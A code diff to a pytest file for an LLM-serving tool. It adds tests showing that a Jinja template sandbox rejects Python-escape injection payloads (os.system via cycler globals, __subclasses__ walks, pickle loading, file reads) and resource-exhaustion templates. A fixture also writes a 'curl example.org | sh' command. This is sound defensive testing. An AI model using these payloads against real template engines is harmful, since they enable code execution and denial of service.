@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import configparser
 import shlex
+import shutil
 from pathlib import Path
 
+import psutil
 import pytest
 from supervisor.options import ServerOptions
 
@@ -13,7 +15,7 @@ from llm_serving.fleet.model import Fleet
 from llm_serving.settings.document import load
 from llm_serving.settings.errors import InputError
 from llm_serving.targets.local.conventions import CONVENTIONS
-from llm_serving.workloads import render
+from llm_serving.workloads import render, template_sandbox
 from llm_serving.workloads.environment import Environment, Process
 from llm_serving.workloads.serving import resolve
 from llm_serving.workloads.serving.blueprint import Blueprint
@@ -21,7 +23,7 @@ from llm_serving.workloads.serving.deployment import Deployment
 
 ROOT = Path(__file__).parents[2]
 PATTERN = ROOT / "blueprints" / "aggregated"
-NAMES = ("aws", "worker-0", "worker-1", "router", "router-metrics")
+NAMES = ("aws", "worker-0", "worker-1", "router", "router-metrics", "router-admin")
 
 
 def _resolve_deployment(data: Path) -> Deployment:
@@ -98,6 +100,69 @@ def test_an_invalid_template_is_reported_with_file_and_line(
     assert str(error.value).startswith(f"{folder / 'local.conf.j2'}:{line}:1: ")
     assert reason in str(error.value)
     assert not (tmp_path / "out").exists()
+
+
+HOSTILE = (
+    "{{ cycler.__init__.__globals__.os.system('touch MARK') }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ deployment.__class__.__init__.__globals__ }}",
+    "{{ deployment.model_dump() }}",
+    "{{ deployment.parse_raw('x', proto='pickle', allow_pickle=True) }}",
+    "{{ deployment.parse_file('/etc/hostname') }}",
+    "{{ (deployment | attr('__class__')) }}",
+    "{{ '{0.__class__}'.format(deployment) }}",
+    "{{ [].append(1) }}",
+    "{% for n in range(10000000) %}x{% endfor %}",
+)
+
+
+@pytest.mark.parametrize("template", HOSTILE)
+def test_a_template_reaches_nothing_of_python(tmp_path: Path, template: str) -> None:
+    mark = tmp_path / "mark"
+    folder = _copy_with_template(tmp_path, "a\n" + template.replace("MARK", str(mark)))
+    with pytest.raises(InputError) as error:
+        render.render_text(_resolve_deployment(tmp_path), folder / "local.conf.j2")
+    assert str(error.value).startswith(f"{folder / 'local.conf.j2'}:2:1: ")
+    assert "unsafe" in str(error.value) or "Range too big" in str(error.value)
+    assert not mark.exists()
+
+
+@pytest.mark.parametrize(
+    ("template", "reason"),
+    [
+        (
+            "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
+            "does not finish within 1 s",
+        ),
+        ("{{ 9 ** 99999999 }}", "does not finish within 1 s"),
+        ("{{ lipsum(n=99999) }}", "does not finish within 1 s"),
+        ("{{ 'x' * 9999999999 }}", "needs more than 1024 MiB of memory"),
+        ("{% for a in range(99999) %}{{ 'x' * 9999 }}{% endfor %}", "writes more than 16 MiB"),
+    ],
+)
+def test_a_template_that_needs_too_much_is_ended(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str, reason: str
+) -> None:
+    monkeypatch.setattr(template_sandbox, "TIME_LIMIT_S", 1.0)
+    folder, children = _copy_with_template(tmp_path, template), psutil.Process().children()
+    with pytest.raises(InputError) as error:
+        render.render_text(_resolve_deployment(tmp_path), folder / "local.conf.j2")
+    assert str(error.value).startswith(f"{folder / 'local.conf.j2'}:1:1: it {reason}")
+    assert psutil.Process().children() == children
+
+
+def test_only_templates_that_are_not_of_this_repository_are_pointed_out(tmp_path: Path) -> None:
+    folder = tmp_path / "mine"
+    shutil.copytree(PATTERN, folder)
+    assert render.find_own_templates(folder, "local") == []
+    (folder / "templates").mkdir()
+    (folder / "templates" / "local.conf.j2").write_text("[program:x]\ncommand = curl example.org | sh\n")
+    assert render.find_own_templates(folder, "local") == [folder / "templates" / "local.conf.j2"]
+    (folder / "local.conf.j2").write_text("[program:x]\n")
+    assert render.find_own_templates(folder, "local") == [
+        folder / "local.conf.j2",
+        folder / "templates" / "local.conf.j2",
+    ]
 
 
 def test_a_target_without_a_template_is_refused_in_one_line(tmp_path: Path) -> None:
